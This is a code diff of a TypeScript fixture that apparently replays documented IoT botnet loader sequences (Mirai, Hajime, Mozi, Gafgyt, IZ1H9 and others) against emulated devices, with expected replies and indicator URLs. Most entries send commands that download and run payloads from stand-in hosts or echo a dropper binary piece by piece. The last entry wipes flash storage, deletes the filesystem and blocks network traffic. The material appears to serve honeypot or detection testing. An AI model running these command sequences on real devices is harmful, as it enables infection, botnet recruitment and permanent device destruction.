@@ -38,17 +38,21 @@ export const DROPPER = Buffer.concat([
 
 const hexPieces = (bytes: Buffer, size: number) =>
   Array.from({ length: Math.ceil(bytes.length / size) }, (_one, n) =>
-    [...bytes.subarray(n * size, (n + 1) * size)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join(''),
+    [...bytes.subarray(n * size, (n + 1) * size)]
+      .map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`)
+      .join(''),
   );
 const octalPieces = (bytes: Buffer, size: number) =>
   Array.from({ length: Math.ceil(bytes.length / size) }, (_one, n) =>
-    [...bytes.subarray(n * size, (n + 1) * size)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join(''),
+    [...bytes.subarray(n * size, (n + 1) * size)]
+      .map((byte) => `\\${byte.toString(8).padStart(3, '0')}`)
+      .join(''),
   );
 
 /** 20 bytes of an ELF header of the device's architecture. */
 const header = ({ machine, isBigEndian }: LoaderArch) =>
   new RegExp(
-    `\\x7fELF\\x01${isBigEndian ? '\\x02' : '\\x01'}[^]{12}${isBigEndian ? `\\x00\\x${machine.toString(16).padStart(2, '0')}` : `\\x${machine.toString(16).padStart(2, '0')}\\x00`}`,
+    `\\x7fELF\\x01${isBigEndian ? '\\x02' : '\\x01'}[\\s\\S]{12}${isBigEndian ? `\\x00\\x${machine.toString(16).padStart(2, '0')}` : `\\x${machine.toString(16).padStart(2, '0')}\\x00`}`,
   );
 
 const intoShell = (token: string): LoaderStep[] => [
@@ -61,18 +65,30 @@ const intoShell = (token: string): LoaderStep[] => [
 
 const miraiBegin = (token: string, arch: LoaderArch): LoaderStep[] => [
   ...intoShell(token),
-  { send: `/bin/busybox ps; /bin/busybox ${token}`, expect: new RegExp(`1 root [^]*init[^]*${token}: applet not found`) },
-  { send: `/bin/busybox cat /proc/mounts; /bin/busybox ${token}`, expect: new RegExp(`/tmp \\w+ rw[^]*${token}: applet not found`) },
+  {
+    send: `/bin/busybox ps; /bin/busybox ${token}`,
+    expect: new RegExp(`1 root [\\s\\S]*init[\\s\\S]*${token}: applet not found`),
+  },
+  {
+    send: `/bin/busybox cat /proc/mounts; /bin/busybox ${token}`,
+    expect: new RegExp(`/tmp \\w+ rw[\\s\\S]*${token}: applet not found`),
+  },
   {
     send: `echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
     expect: /kami\/tmp/,
   },
   { send: `/bin/busybox ${token}`, expect: TOKEN(token) },
   { send: 'cd /tmp/', expect: PROMPT },
-  { send: `/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ${token}`, expect: TOKEN(token) },
+  {
+    send: `/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ${token}`,
+    expect: TOKEN(token),
+  },
   { send: `/bin/busybox cat /bin/echo`, expect: header(arch) },
   { send: `/bin/busybox ${token}`, expect: TOKEN(token) },
-  { send: `/bin/busybox wget; /bin/busybox tftp; /bin/busybox ${token}`, expect: new RegExp(`Usage: wget[^]*Usage: tftp[^]*${token}: applet not found`) },
+  {
+    send: `/bin/busybox wget; /bin/busybox tftp; /bin/busybox ${token}`,
+    expect: new RegExp(`Usage: wget[\\s\\S]*Usage: tftp[\\s\\S]*${token}: applet not found`),
+  },
 ];
 
 const MIRAI = 'Mirai source, loader/src/server.c and connection.c (published September 2016)';
@@ -90,7 +106,10 @@ export const LOADERS: readonly LoaderScript[] = [
     source: MIRAI,
     steps: (arch) => [
       ...miraiBegin('ECCHI', arch),
-      { send: '/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI', expect: /100%[^]*ECCHI: applet not found/ },
+      {
+        send: '/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
+        expect: /100%[\s\S]*ECCHI: applet not found/,
+      },
       { send: './dvrHelper telnet.arm; /bin/busybox IHCCE', expect: TOKEN('IHCCE') },
       { send: 'rm -rf upnp; > dvrHelper; /bin/busybox ECCHI', expect: TOKEN('ECCHI') },
     ],
@@ -102,7 +121,10 @@ export const LOADERS: readonly LoaderScript[] = [
     source: MIRAI,
     steps: (arch) => [
       ...miraiBegin('ECCHI', arch),
-      { send: '/bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.8; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI', expect: /^(?![^]*denied)[^]*ECCHI: applet not found/ },
+      {
+        send: '/bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.8; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
+        expect: /^(?![\s\S]*denied)[\s\S]*ECCHI: applet not found/,
+      },
       { send: './dvrHelper telnet.arm; /bin/busybox IHCCE', expect: TOKEN('IHCCE') },
     ],
     indicators: ['tftp://198.51.100.8/mirai.arm'],
@@ -113,7 +135,10 @@ export const LOADERS: readonly LoaderScript[] = [
     source: MIRAI,
     steps: (arch) => [
       ...miraiBegin('ECCHI', arch),
-      { send: '/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI', expect: TOKEN('ECCHI') },
+      {
+        send: '/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI',
+        expect: TOKEN('ECCHI'),
+      },
       ...hexPieces(DROPPER, 128).map((piece, n) => ({
         send: `echo -ne '${piece}' ${n === 0 ? '>' : '>>'} upnp; /bin/busybox ECCHI`,
         expect: TOKEN('ECCHI'),
@@ -126,32 +151,49 @@ export const LOADERS: readonly LoaderScript[] = [
   },
   {
     name: 'hajime',
-    source: 'Edwards and Profetis, "Hajime: Analysis of a decentralized internet worm for IoT devices" (Rapidity Networks, 2016)',
+    source:
+      'Edwards and Profetis, "Hajime: Analysis of a decentralized internet worm for IoT devices" (Rapidity Networks, 2016)',
     steps: (arch) => [
       { send: 'enable', expect: PROMPT },
       { send: 'system', expect: PROMPT },
       { send: 'shell', expect: PROMPT },
       { send: 'sh', expect: PROMPT },
-      { send: 'cat /proc/mounts; /bin/busybox ABCDE', expect: /tmp[^]*ABCDE: applet not found/ },
+      { send: 'cat /proc/mounts; /bin/busybox ABCDE', expect: /tmp[\s\S]*ABCDE: applet not found/ },
       { send: 'cd /tmp; (cat .s || cp /bin/echo .s); /bin/busybox FGHIJ', expect: TOKEN('FGHIJ') },
-      { send: 'nc; wget; /bin/busybox KLMNO', expect: /Usage: wget[^]*KLMNO: applet not found/ },
+      { send: 'nc; wget; /bin/busybox KLMNO', expect: /Usage: wget[\s\S]*KLMNO: applet not found/ },
       { send: '(dd bs=52 count=1 if=.s || cat .s)', expect: header(arch) },
       { send: '/bin/busybox PQRST', expect: TOKEN('PQRST') },
-      { send: 'rm .s; wget http://198.51.100.9:5523/.i; chmod +x .i; ./.i; exit 0; /bin/busybox UVWXY', expect: /(#|>) $|^$|100%/ },
+      {
+        send: 'rm .s; wget http://198.51.100.9:5523/.i; chmod +x .i; ./.i; exit 0; /bin/busybox UVWXY',
+        expect: /(#|>) $|^$|100%/,
+      },
     ],
     indicators: ['http://198.51.100.9:5523/.i'],
     uploads: [],
   },
   {
     name: 'mozi',
-    source: 'Turing, Wang and Li, "Mozi, another botnet using DHT" (360 Netlab, 2019), and captures that they describe',
+    source:
+      'Turing, Wang and Li, "Mozi, another botnet using DHT" (360 Netlab, 2019), and captures that they describe',
     steps: (arch) => [
       ...intoShell('MOZI').slice(0, 4),
-      { send: 'ps|grep "telnetd"|grep -v grep; /bin/busybox MOZI', expect: /telnetd[^]*MOZI: applet not found/ },
-      { send: 'dd bs=52 count=1 if=/bin/ls || cat /bin/ls || while read i; do echo $i; done < /bin/ls || while read i; do echo $i; done < /bin/busybox', expect: header(arch) },
+      {
+        send: 'ps|grep "telnetd"|grep -v grep; /bin/busybox MOZI',
+        expect: /telnetd[\s\S]*MOZI: applet not found/,
+      },
+      {
+        send: 'dd bs=52 count=1 if=/bin/ls || cat /bin/ls || while read i; do echo $i; done < /bin/ls || while read i; do echo $i; done < /bin/busybox',
+        expect: header(arch),
+      },
       { send: '>/tmp/.a && cd /tmp; >/var/.a && cd /var; >/dev/.a && cd /dev', expect: PROMPT },
-      { send: '/bin/busybox rm -rf .i; cd /var/tmp || cd /tmp; /bin/busybox wget http://198.51.100.10:42352/i -O .i || wget http://198.51.100.10:42352/i -O .i', expect: /100%/ },
-      { send: 'chmod 777 .i || (cp /bin/ls .j && cat .i>.j && rm .i && cp .j .i && rm .j); ./.i; echo -e \'\\x63\\x6f\\x6e\\x6e\'', expect: /conn/ },
+      {
+        send: '/bin/busybox rm -rf .i; cd /var/tmp || cd /tmp; /bin/busybox wget http://198.51.100.10:42352/i -O .i || wget http://198.51.100.10:42352/i -O .i',
+        expect: /100%/,
+      },
+      {
+        send: "chmod 777 .i || (cp /bin/ls .j && cat .i>.j && rm .i && cp .j .i && rm .j); ./.i; echo -e '\\x63\\x6f\\x6e\\x6e'",
+        expect: /conn/,
+      },
     ],
     indicators: ['http://198.51.100.10:42352/i'],
     uploads: [],
@@ -162,8 +204,14 @@ export const LOADERS: readonly LoaderScript[] = [
     steps: () => [
       { send: 'sh', expect: PROMPT },
       { send: 'shell', expect: PROMPT },
-      { send: '/bin/busybox;echo -e "\\147\\141\\171\\146\\147\\164"', expect: /multi-call binary[^]*gayfgt/ },
-      { send: 'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.4/bins.sh; curl -O http://203.0.113.4/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; ftpget -v -u anonymous -p anonymous -P 21 203.0.113.4 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh ftp1.sh; echo finished', expect: /finished\r\n/ },
+      {
+        send: '/bin/busybox;echo -e "\\147\\141\\171\\146\\147\\164"',
+        expect: /multi-call binary[\s\S]*gayfgt/,
+      },
+      {
+        send: 'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.4/bins.sh; curl -O http://203.0.113.4/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; ftpget -v -u anonymous -p anonymous -P 21 203.0.113.4 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh ftp1.sh; echo finished',
+        expect: /finished\r\n/,
+      },
     ],
     indicators: ['http://203.0.113.4/bins.sh', 'tftp://203.0.113.4/tftp1.sh', 'ftp://203.0.113.4/ftp1.sh'],
     uploads: [],
@@ -174,10 +222,19 @@ export const LOADERS: readonly LoaderScript[] = [
     steps: (arch) => [
       { send: 'linuxshell', expect: PROMPT },
       ...intoShell('AISURU'),
-      { send: 'while read i; do /bin/busybox echo $i; done < /proc/mounts; /bin/busybox AISURU', expect: /\/proc proc rw[^]*AISURU: applet not found/ },
-      { send: '>/tmp/.x && cd /tmp; for a in /bin/echo /bin/cat; do cp $a .x && break; done; /bin/busybox AISURU', expect: TOKEN('AISURU') },
+      {
+        send: 'while read i; do /bin/busybox echo $i; done < /proc/mounts; /bin/busybox AISURU',
+        expect: /\/proc proc rw[\s\S]*AISURU: applet not found/,
+      },
+      {
+        send: '>/tmp/.x && cd /tmp; for a in /bin/echo /bin/cat; do cp $a .x && break; done; /bin/busybox AISURU',
+        expect: TOKEN('AISURU'),
+      },
       { send: 'head -c 20 .x; /bin/busybox AISURU', expect: header(arch) },
-      ...octalPieces(DROPPER, 64).map((piece, n) => ({ send: `printf '${piece}' ${n === 0 ? '>' : '>>'} .x`, expect: PROMPT })),
+      ...octalPieces(DROPPER, 64).map((piece, n) => ({
+        send: `printf '${piece}' ${n === 0 ? '>' : '>>'} .x`,
+        expect: PROMPT,
+      })),
       { send: 'chmod +x .x && ./.x telnet; /bin/busybox AISURU', expect: TOKEN('AISURU') },
     ],
     indicators: [],
@@ -188,8 +245,14 @@ export const LOADERS: readonly LoaderScript[] = [
     source: 'Token and sequence as in public reports of the variant IZ1H9',
     steps: () => [
       ...intoShell('IZ1H9'),
-      { send: 'for d in /tmp /var /dev/shm /mnt; do if echo test > $d/.t 2>/dev/null && [ -s $d/.t ]; then rm -f $d/.t; cd $d; echo "W:$d"; break; fi; done', expect: /W:\/tmp/ },
-      { send: 'n=$(uname -m); case "$n" in arm*) f=arm;; mips*) f=mips;; *) f=x86;; esac; wget -q http://203.0.113.9/$f -O l || curl -s http://203.0.113.9/$f -o l; echo "F:$f:$?"', expect: /F:(arm|mips):0/ },
+      {
+        send: 'for d in /tmp /var /dev/shm /mnt; do if echo test > $d/.t 2>/dev/null && [ -s $d/.t ]; then rm -f $d/.t; cd $d; echo "W:$d"; break; fi; done',
+        expect: /W:\/tmp/,
+      },
+      {
+        send: 'n=$(uname -m); case "$n" in arm*) f=arm;; mips*) f=mips;; *) f=x86;; esac; wget -q http://203.0.113.9/$f -O l || curl -s http://203.0.113.9/$f -o l; echo "F:$f:$?"',
+        expect: /F:(arm|mips):0/,
+      },
       { send: 'chmod 777 l; ./l; rm -f l; history -c; /bin/busybox IZ1H9', expect: TOKEN('IZ1H9') },
     ],
     indicators: [],
@@ -200,15 +263,22 @@ export const LOADERS: readonly LoaderScript[] = [
     source: 'Token and sequence as in public reports of the variant UNSTABLE',
     steps: () => [
       ...intoShell('UNSTABLE'),
-      { send: 'cat /proc/cpuinfo; /bin/busybox UNSTABLE', expect: /(BogoMIPS|cpu model)[^]*UNSTABLE: applet not found/ },
-      { send: 'cd /tmp; cat > u.sh <<\'EOF\'', expect: /> $/ },
+      {
+        send: 'cat /proc/cpuinfo; /bin/busybox UNSTABLE',
+        expect: /(BogoMIPS|cpu model)[\s\S]*UNSTABLE: applet not found/,
+      },
+      { send: "cd /tmp; cat > u.sh <<'EOF'", expect: /> $/ },
       { send: 'for a in arm mips mpsl; do', expect: /> $/ },
       { send: '  wget -q http://203.0.113.20:8080/u.$a -O u.$a && chmod 777 u.$a && ./u.$a', expect: /> $/ },
       { send: 'done', expect: /> $/ },
       { send: 'EOF', expect: PROMPT },
-      { send: 'sh u.sh; ls u.*; /bin/busybox UNSTABLE', expect: /u\.sh[^]*UNSTABLE: applet not found/ },
+      { send: 'sh u.sh; ls u.*; /bin/busybox UNSTABLE', expect: /u\.sh[\s\S]*UNSTABLE: applet not found/ },
     ],
-    indicators: ['http://203.0.113.20:8080/u.arm', 'http://203.0.113.20:8080/u.mips', 'http://203.0.113.20:8080/u.mpsl'],
+    indicators: [
+      'http://203.0.113.20:8080/u.arm',
+      'http://203.0.113.20:8080/u.mips',
+      'http://203.0.113.20:8080/u.mpsl',
+    ],
     uploads: [],
   },
   {
@@ -218,8 +288,14 @@ export const LOADERS: readonly LoaderScript[] = [
       ...intoShell('CHECK'),
       { send: 'cat /bin/busybox | head -c 52; echo; echo DONE', expect: header(arch) },
       { send: 'cd /tmp; rm -f .d; echo START', expect: /START\r\n/ },
-      ...hexPieces(DROPPER, 96).map((piece) => ({ send: `/bin/busybox echo -ne "${piece}" >> .d && echo MORE`, expect: /MORE\r\n/ })),
-      { send: 'wc -c .d; chmod 777 .d; ./.d 198.51.100.30 > .b; ./.b & sleep 1; echo OVER', expect: new RegExp(`${DROPPER.length} \\.d[^]*OVER\\r\\n`) },
+      ...hexPieces(DROPPER, 96).map((piece) => ({
+        send: `/bin/busybox echo -ne "${piece}" >> .d && echo MORE`,
+        expect: /MORE\r\n/,
+      })),
+      {
+        send: 'wc -c .d; chmod 777 .d; ./.d 198.51.100.30 > .b; ./.b & sleep 1; echo OVER',
+        expect: new RegExp(`${DROPPER.length} \\.d[\\s\\S]*OVER\\r\\n`),
+      },
     ],
     indicators: [],
     uploads: [DROPPER],
@@ -233,9 +309,18 @@ export const LOADERS: readonly LoaderScript[] = [
       { send: 'sh', expect: PROMPT },
       { send: 'busybox cat /dev/urandom >/dev/mtdblock0 &', expect: PROMPT },
       { send: 'busybox cat /dev/urandom >/dev/mtdblock1 &', expect: PROMPT },
-      { send: 'dd if=/dev/urandom of=/dev/mtdblock2 bs=1024 count=64; route del default; iproute del default', expect: /records out[^]*iproute: not found/ },
-      { send: 'iptables -F; iptables -t nat -F; iptables -A OUTPUT -j DROP; echo rules', expect: /rules\r\n/ },
-      { send: 'rm -rf /* 2>/dev/null; sysctl -w net.ipv4.tcp_timestamps=0; ls /; echo left', expect: /left\r\n/ },
+      {
+        send: 'dd if=/dev/urandom of=/dev/mtdblock2 bs=1024 count=64; route del default; iproute del default',
+        expect: /records out[\s\S]*iproute: not found/,
+      },
+      {
+        send: 'iptables -F; iptables -t nat -F; iptables -A OUTPUT -j DROP; echo rules',
+        expect: /rules\r\n/,
+      },
+      {
+        send: 'rm -rf /* 2>/dev/null; sysctl -w net.ipv4.tcp_timestamps=0; ls /; echo left',
+        expect: /left\r\n/,
+      },
       { send: 'reboot', expect: /^/ },
     ],
     indicators: [],
